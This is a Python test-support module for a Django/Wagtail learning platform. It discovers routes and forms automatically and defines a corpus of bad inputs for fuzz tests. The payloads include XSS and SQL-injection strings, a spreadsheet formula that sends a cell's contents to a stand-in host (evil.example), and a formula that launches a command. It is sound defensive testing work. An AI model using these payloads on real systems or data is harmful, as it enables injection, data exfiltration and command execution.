"""The bad-input corpus and the discovery behind it (tests/lms/test_bad_input.py uses these).

Every route is found by walking the URL configuration and, for the Wagtail catch-all, every
page type's own routes, so a view added tomorrow is fuzzed without anyone listing it here: the
only list kept by hand is how to fill a route's arguments with real ids, and the guard test
fails when a new route has arguments and no entry. Forms and filters are found by reading the
pages each identity is shown, with html.parser, as a browser would."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import parse_qsl, urlsplit

from django.apps import apps
from django.urls import URLPattern, URLResolver, get_resolver
from wagtail.contrib.routable_page.models import RoutablePageMixin
from wagtail.models import Page

OUR_APPS = ("lms", "courses", "bookings", "workshops", "certificates")

# Deliberately not fuzzed, kept small. Under admin/ our own screens (the coordinators' views and
# the admin viewsets of our models) are still fuzzed: only Wagtail's own admin is skipped.
SKIPPED_PREFIXES = {
    "admin/": "Wagtail's own admin (pages, images, users...): Wagtail's code and tests, not ours",
    "django-admin/": "the developers' Django admin, not a screen any user of the product has",
}

# What a field can be given. Each value is a string, a list (the name repeated: a wrong type in
# a query string or form), or a function of the field's name (for the parts of a date).
Payload = str | list[str] | Callable[[str], str]


def _date_part(day: str, month: str, year: str, whole: str) -> Callable[[str], str]:
    def value(name: str) -> str:
        for suffix, part in (("_day", day), ("_month", month), ("_year", year)):
            if name.endswith(suffix):
                return part
        return whole

    return value


PAYLOADS: dict[str, Payload] = {
    "empty": "",
    "10000_characters": "a" * 10_000,
    "nul": "abc\x00def",
    "control_characters": "a\x0bb\x1bc\rd\x7fe\x08",
    "rtl_and_emoji": "\u202eexe.txt \u202c 👩\u200d👧\u200d👦 مرحبا עברית",
    "html_js": '"><script>alert(1)</script><img src=x onerror=alert(1)>{{ 7*7 }}',
    "sql": "' OR '1'='1'; DROP TABLE lms_user; --",
    "sql_like": "%_\\%' ESCAPE '\\",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "huge_number": "99999999999999999999999999",
    "negative_number": "-1",
    "float_overflow": "1e309",
    "not_a_number": "NaN",
    "date_far_future": _date_part("31", "12", "9999", "9999-12-31"),
    "date_far_past": _date_part("1", "1", "1", "0001-01-01"),
    "date_impossible": _date_part("31", "2", "2027", "2027-02-31"),
    "repeated": ["1", "abc"],
}
# One field at a time (the others left as the page filled them) costs a request per field: for
# small forms only, and with the payloads most likely to reach code a whole-form error stops.
PER_FIELD_PAYLOADS = ("nul", "control_characters", "10000_characters", "huge_number", "formula", "repeated")
SMALL_FORM = 6  # fields

# Bad values for a route's own arguments, in the address itself.
BAD_PATH_VALUES = {
    "nul": "abc\x00def",
    "control_characters": "abc\x0bdef",
    "html_js": "<script>alert(1)</script>",
    "sql": "' OR '1'='1",
    "10000_characters": "a" * 10_000,
    "huge_number": "99999999999999999999999999",
    "zero": "0",
}


def value_for(payload: Payload, name: str) -> str | list[str]:
    return payload(name) if callable(payload) else payload


# Routes ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Route:
    """One thing a URL can reach: a URL pattern, or one route of one page type."""

    key: str  # "bookings:cancel", or "courses.ModulePage:attempt" for a page's route
    route: str  # the pattern as written, for messages
    params: tuple[str, ...]  # its arguments' names (positional ones as "0", "1"...)
    page_model: type[Page] | None = None
    model: type | None = None  # the model an admin viewset's screen is for

    @property
    def is_page(self) -> bool:
        return self.page_model is not None


def _params(pattern) -> tuple[str, ...]:
    regex = pattern.pattern.regex
    if regex.groupindex:
        return tuple(regex.groupindex)
    return tuple(str(n) for n in range(regex.groups))


def url_patterns() -> Iterator[tuple[str, str, URLPattern]]:
    """Every URL pattern as (route, name with namespaces, pattern), walked recursively."""

    def walk(patterns, prefix: str, namespace: str):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                yield from walk(pattern.url_patterns, prefix + str(pattern.pattern), inner)
            else:
                yield prefix + str(pattern.pattern), f"{namespace}{pattern.name or ''}", pattern

    yield from walk(get_resolver().url_patterns, "", "")


def skipped(route: str) -> str | None:
    """Why a route is not fuzzed, or None when it is."""
    return next((why for prefix, why in SKIPPED_PREFIXES.items() if route.startswith(prefix)), None)


def _our_model(pattern: URLPattern) -> type | None:
    """The model of one of our apps that a Wagtail admin viewset's screen is for, if any."""
    model = getattr(pattern.callback, "view_initkwargs", {}).get("model")
    if isinstance(model, str):  # some of Wagtail's screens name their model "app_label.Model"
        model = apps.get_model(model)
    return model if model is not None and model._meta.app_label in OUR_APPS else None


def _ours(pattern: URLPattern) -> bool:
    return pattern.callback.__module__.split(".")[0] in OUR_APPS or _our_model(pattern) is not None


def page_models() -> list[type[Page]]:
    return [m for m in apps.get_models() if issubclass(m, Page) and m._meta.app_label in OUR_APPS]


def page_routes(model: type[Page]) -> list[Route]:
    label = f"{model._meta.app_label}.{model.__name__}"
    if not issubclass(model, RoutablePageMixin):
        return [Route(f"{label}:serve", "", (), page_model=model)]
    return [
        Route(f"{label}:{p.name}", str(p.pattern), _params(p), page_model=model)
        for p in model.get_resolver().url_patterns
    ]


def routes() -> list[Route]:
    """Every route the corpus fuzzes: our URL patterns outside the skipped prefixes (and our own
    screens inside them), allauth's and Wagtail's front end, and every page type's routes in
    place of Wagtail's catch-all."""
    found = []
    for route, name, pattern in url_patterns():
        if name == "wagtail_serve":
            for model in page_models():
                found.extend(page_routes(model))
        elif not skipped(route) or _ours(pattern):
            found.append(Route(name, route, _params(pattern), model=_our_model(pattern)))
    return found


# Forms -------------------------------------------------------------------------------------


@dataclass
class Form:
    method: str
    action: str
    enctype: str = ""
    fields: list[tuple[str, str, str]] = field(default_factory=list)  # (name, kind, value)
    buttons: list[tuple[str, str]] = field(default_factory=list)  # submit buttons' (name, value)

    def signature(self, path: str) -> tuple:
        return (self.method, self.action or path, tuple(sorted({n for n, _, _ in self.fields})))

    def defaults(self) -> dict[str, list[str]]:
        """What the browser would send untouched: values, checked boxes, selected options."""
        data: dict[str, list[str]] = {}
        for name, kind, value in self.fields:
            if kind in ("checkbox", "radio") and value is None:
                data.setdefault(name, [])
                continue
            data.setdefault(name, []).append(value or "")
        return data

    def names(self, *, hidden: bool) -> list[str]:
        seen = dict.fromkeys(n for n, kind, _ in self.fields if hidden or kind != "hidden")
        return [n for n in seen if n != "csrfmiddlewaretoken"]


class FormParser(HTMLParser):
    """The forms in a page, and the query-string names its links to the same path use."""

    def __init__(self, path: str):
        super().__init__(convert_charrefs=True)
        self.path = path
        self.forms: list[Form] = []
        self.link_params: set[str] = set()
        self._form: Form | None = None
        self._select: str | None = None
        self._select_first: str | None = None
        self._select_chosen = False
        self._textarea: str | None = None
        self._text = ""

    def handle_starttag(self, tag, attrs):
        a = {k: (v if v is not None else "") for k, v in attrs}
        if tag == "a" and "href" in a:
            href = urlsplit(a["href"])
            if href.query and href.path in ("", self.path):
                self.link_params.update(k for k, _ in parse_qsl(href.query, keep_blank_values=True))
        elif tag == "form":
            self._form = Form(
                method=a.get("method", "get").lower(),
                action=urlsplit(a.get("action", "")).path,
                enctype=a.get("enctype", ""),
            )
            self.forms.append(self._form)
        elif self._form is None or ("name" not in a and tag != "option"):
            return
        elif tag == "input":
            kind = a.get("type", "text").lower()
            if kind == "submit":
                self._form.buttons.append((a["name"], a.get("value", "")))
            elif kind in ("checkbox", "radio"):
                self._form.fields.append((a["name"], kind, a.get("value", "on") if "checked" in a else None))
            else:
                self._form.fields.append((a["name"], kind, a.get("value", "")))
        elif tag == "button" and a.get("type", "submit") == "submit":
            self._form.buttons.append((a["name"], a.get("value", "")))
        elif tag == "textarea":
            self._textarea, self._text = a["name"], ""
        elif tag == "select":
            self._select, self._select_first, self._select_chosen = a["name"], None, False
        elif tag == "option" and self._select:
            value = a.get("value", "")
            if self._select_first is None:
                self._select_first = value
            if "selected" in a:
                self._form.fields.append((self._select, "select", value))
                self._select_chosen = True

    def handle_data(self, data):
        if self._textarea:
            self._text += data

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "textarea" and self._form and self._textarea:
            self._form.fields.append((self._textarea, "textarea", self._text))
            self._textarea = None
        elif tag == "select" and self._form and self._select:
            if not self._select_chosen:
                self._form.fields.append((self._select, "select", self._select_first or ""))
            self._select = None


def forms_in(html: str, path: str) -> tuple[list[Form], set[str]]:
    parser = FormParser(path)
    parser.feed(html)
    return parser.forms, parser.link_params
